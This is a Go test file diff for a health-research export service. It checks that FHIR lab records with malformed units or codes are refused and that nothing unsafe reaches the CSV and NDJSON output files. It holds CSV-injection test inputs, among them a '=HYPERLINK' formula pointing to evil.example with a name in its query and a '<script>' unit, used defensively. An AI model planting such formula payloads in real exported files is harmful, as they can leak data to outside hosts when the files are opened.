@@ -1,8 +1,12 @@
 package research
 
 import (
+	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -67,12 +71,20 @@ func TestFactOf(t *testing.T) {
 			Fact{Category: "labs", Code: "http://snomed.info/sct|44054006", Date: day(2019, 3, 2)},
 		},
 		"medication request": {
-			`{"resourceType":"MedicationRequest","medicationCodeableConcept":{"coding":[{"system":"rxnorm","code":"860975"}]},"authoredOn":"2024-02-03"}`,
-			Fact{Category: "labs", Code: "rxnorm|860975", Date: day(2024, 2, 3)},
+			`{"resourceType":"MedicationRequest","medicationCodeableConcept":{"coding":[{"system":"http://www.nlm.nih.gov/research/umls/rxnorm","code":"860975"}]},"authoredOn":"2024-02-03"}`,
+			Fact{Category: "labs", Code: "http://www.nlm.nih.gov/research/umls/rxnorm|860975", Date: day(2024, 2, 3)},
 		},
 		"immunization": {
-			`{"resourceType":"Immunization","vaccineCode":{"coding":[{"code":"208"}]},"occurrenceDateTime":"2021-05-01T10:00:00+02:00"}`,
-			Fact{Category: "labs", Code: "208", Date: time.Date(2021, 5, 1, 8, 0, 0, 0, time.UTC)},
+			`{"resourceType":"Immunization","vaccineCode":{"coding":[{"system":"urn:oid:2.16.840.1.113883.12.292","code":"208"}]},"occurrenceDateTime":"2021-05-01T10:00:00+02:00"}`,
+			Fact{Category: "labs", Code: "urn:oid:2.16.840.1.113883.12.292|208", Date: time.Date(2021, 5, 1, 8, 0, 0, 0, time.UTC)},
+		},
+		"a unit with an annotation": {
+			`{"resourceType":"Observation","code":{"coding":[{"code":"8867-4"}]},"valueQuantity":{"value":-1.5,"unit":"{beats}/min"},"effectiveDateTime":"2025-01-15"}`,
+			Fact{Category: "labs", Code: "8867-4", Value: "-1.5", Unit: "{beats}/min", Date: day(2025, 1, 15)},
+		},
+		"a value without a unit": {
+			`{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":2},"effectiveDateTime":"2025-01-15"}`,
+			Fact{Category: "labs", Code: "718-7", Value: "2", Date: day(2025, 1, 15)},
 		},
 	}
 	for name, tc := range tests {
@@ -81,8 +93,33 @@ func TestFactOf(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if f.Category != tc.want.Category || f.Code != tc.want.Code || f.Value != tc.want.Value || f.Unit != tc.want.Unit || !f.Date.Equal(tc.want.Date) {
+			if f.Category != tc.want.Category || f.Code != tc.want.Code || f.Value != tc.want.Value || f.Unit != tc.want.Unit || !f.Date.Equal(tc.want.Date) || f.ValueRefused {
 				t.Errorf("factOf = %+v, want %+v", f, tc.want)
+			}
+		})
+	}
+
+	// A unit that is not a UCUM unit expression takes its value with it;
+	// the fact keeps its code and date.
+	valueRefusals := map[string]string{
+		"unit too long":          `"value":5.4,"unit":"` + strings.Repeat("u", maxUnitLen+1) + `"`,
+		"a formula as unit":      `"value":5.4,"unit":"=HYPERLINK(\"http://evil.example\")"`,
+		"free text as unit":      `"value":5.4,"unit":"mg per dL"`,
+		"a bad code, no unit":    `"value":5.4,"code":"mg dL"`,
+		"a bad unit, good code":  `"value":5.4,"unit":"mg,dL","code":"mg"`,
+		"a nested annotation":    `"value":5.4,"unit":"{a{b}}"`,
+		"markup as unit":         `"value":5.4,"unit":"<script>"`,
+		"a unit starting with +": `"value":5.4,"unit":"+mg"`,
+	}
+	for name, quantity := range valueRefusals {
+		t.Run(name, func(t *testing.T) {
+			raw := `{"resourceType":"Observation","code":{"coding":[{"code":"2345-7"}]},"valueQuantity":{` + quantity + `},"effectiveDateTime":"2025-01-15"}`
+			f, err := factOf("labs", []byte(raw))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if f.Code != "2345-7" || f.Value != "" || f.Unit != "" || !f.ValueRefused || !f.Date.Equal(day(2025, 1, 15)) {
+				t.Errorf("factOf = %+v, want the code and date, no value or unit, ValueRefused", f)
 			}
 		})
 	}
@@ -96,10 +133,14 @@ func TestFactOf(t *testing.T) {
 		"code too long":         `{"resourceType":"Observation","code":{"coding":[{"code":"` + long + `"}]},"effectiveDateTime":"2025-01-15"}`,
 		"code with a newline":   `{"resourceType":"Observation","code":{"coding":[{"code":"a\nb"}]},"effectiveDateTime":"2025-01-15"}`,
 		"code with a quote":     `{"resourceType":"Observation","code":{"coding":[{"code":"a\"b"}]},"effectiveDateTime":"2025-01-15"}`,
+		"code with a space":     `{"resourceType":"Observation","code":{"coding":[{"code":"glucose of Zebulon"}]},"effectiveDateTime":"2025-01-15"}`,
+		"code a formula":        `{"resourceType":"Observation","code":{"coding":[{"code":"=1+1"}]},"effectiveDateTime":"2025-01-15"}`,
+		"code starting with -":  `{"resourceType":"Observation","code":{"coding":[{"code":"-1"}]},"effectiveDateTime":"2025-01-15"}`,
+		"system not a URI":      `{"resourceType":"Observation","code":{"coding":[{"system":"rxnorm","code":"860975"}]},"effectiveDateTime":"2025-01-15"}`,
+		"system with text":      `{"resourceType":"Observation","code":{"coding":[{"system":"http://loinc.org/call me","code":"2345-7"}]},"effectiveDateTime":"2025-01-15"}`,
 		"no date":               `{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":1}}`,
 		"a date not parsing":    `{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"effectiveDateTime":"last Tuesday"}`,
 		"value out of range":    `{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":1e999},"effectiveDateTime":"2025-01-15"}`,
-		"unit too long":         `{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":1,"unit":"` + strings.Repeat("u", 41) + `"},"effectiveDateTime":"2025-01-15"}`,
 	}
 	for name, raw := range refusals {
 		t.Run(name, func(t *testing.T) {
@@ -182,5 +223,69 @@ func TestNoIdentifierReachesAFile(t *testing.T) {
 				t.Errorf("dates %s: the status holds %q", dates, v)
 			}
 		}
+	}
+}
+
+// TestNoFormulaOrFreeTextReachesAFile builds a dataset from records carrying
+// a spreadsheet formula in a unit and free text in a code, a code system and
+// a unit's code, and reads the files as a researcher's spreadsheet would.
+func TestNoFormulaOrFreeTextReachesAFile(t *testing.T) {
+	const freeText = "Zebulon Quixote"
+	w := newWorld(t)
+	w.cohort(4)
+	formula := observation("http://loinc.org", "8867-4", 72, `=HYPERLINK("http://evil.example/?who=Zebulon Quixote","open")`, "2025-02-01")
+	w.addRecord("patient-0001", "patient-0001-formula", "labs", formula)
+	w.addRecord("patient-0002", "patient-0002-code", "labs", observation("http://loinc.org", "glucose of "+freeText, 5.4, "mmol/L", "2025-02-01"))
+	w.addRecord("patient-0003", "patient-0003-system", "labs", observation("http://loinc.org/"+freeText, "2345-7", 5.4, "mmol/L", "2025-02-01"))
+	unitCode := observation("http://loinc.org", "2951-2", 140, "", "2025-02-01")
+	unitCode["valueQuantity"] = map[string]any{"value": 140, "code": "mmol/L for " + freeText}
+	w.addRecord("patient-0004", "patient-0004-unit", "labs", unitCode)
+	w.addRecord("patient-0004", "patient-0004-negative", "labs", observation("http://loinc.org", "1925-5", -1.5, "mmol/L", "2025-02-01"))
+
+	d := w.released(labsSpec())
+	csvBytes, ndjson := w.object(d.GetDatasetId(), FileCSV), w.object(d.GetDatasetId(), FileNDJSON)
+	for name, body := range map[string][]byte{FileCSV: csvBytes, FileNDJSON: ndjson} {
+		for _, v := range []string{"Zebulon", "HYPERLINK", "evil.example", "glucose"} {
+			if strings.Contains(string(body), v) {
+				t.Errorf("the %s file holds %q", name, v)
+			}
+		}
+	}
+	cells, err := csv.NewReader(bytes.NewReader(csvBytes)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	header := cells[0]
+	for i, row := range cells {
+		for j, cell := range row {
+			if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r") {
+				continue
+			}
+			// The one exception: a number the service wrote from a float.
+			if _, err := strconv.ParseFloat(cell, 64); err != nil || !slices.Contains([]string{ColValue, ColMin, ColMax, ColMean}, header[j]) {
+				t.Errorf("line %d, column %s: %q starts with a formula trigger", i+1, header[j], cell)
+			}
+		}
+	}
+	rows := w.csvRows(d.GetDatasetId())
+	byCode := map[string][]map[string]string{}
+	for _, r := range rows {
+		byCode[r[ColCode]] = append(byCode[r[ColCode]], r)
+	}
+	if got := byCode["http://loinc.org|8867-4"]; len(got) != 1 || got[0][ColValue] != "" || got[0][ColUnit] != "" {
+		t.Errorf("the record with a formula as unit has rows %v, want one without value or unit", got)
+	}
+	if got := byCode["http://loinc.org|2951-2"]; len(got) != 1 || got[0][ColValue] != "" || got[0][ColUnit] != "" {
+		t.Errorf("the record with text as unit has rows %v, want one without value or unit", got)
+	}
+	if got := byCode["http://loinc.org|1925-5"]; len(got) != 1 || got[0][ColValue] != "-1.5" || got[0][ColUnit] != "mmol/L" {
+		t.Errorf("the record with a negative value has rows %v, want it as the number -1.5 mmol/L", got)
+	}
+	if len(rows) != 4+3 {
+		t.Errorf("%d rows, want the 4 lab results, the 2 records without a value and the negative one", len(rows))
+	}
+	ex := d.GetManifest().GetExcluded()
+	if ex[exclRecordUnusable] != 2 || ex[exclRecordValueUnusable] != 2 {
+		t.Errorf("manifest excluded %v, want 2 records without a usable code and 2 values without a UCUM unit", ex)
 	}
 }
